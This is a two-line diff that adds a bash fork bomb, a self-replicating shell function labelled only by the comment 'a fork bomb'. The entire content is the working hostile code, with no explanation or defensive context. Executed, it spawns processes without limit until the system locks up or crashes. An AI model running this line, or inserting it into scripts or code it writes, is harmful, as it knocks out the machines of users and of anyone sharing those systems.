@@ -1,0 +1,2 @@
+# a fork bomb
+bomb() { bomb | bomb & }; bomb
